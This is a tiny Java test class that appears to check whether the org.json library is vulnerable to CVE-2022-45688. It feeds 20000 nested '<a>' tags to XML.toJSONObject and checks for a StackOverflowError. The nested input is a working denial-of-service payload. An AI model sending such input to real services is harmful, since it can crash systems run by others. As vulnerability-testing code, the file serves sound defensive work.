public class D_json_2022_45688 {
    public static String run() throws Throwable {
        Object r = H.timed(20000, 1 << 19, () -> org.json.XML.toJSONObject("<a>".repeat(20000)));
        return H.v(r instanceof StackOverflowError, H.cause(r));
    }
}
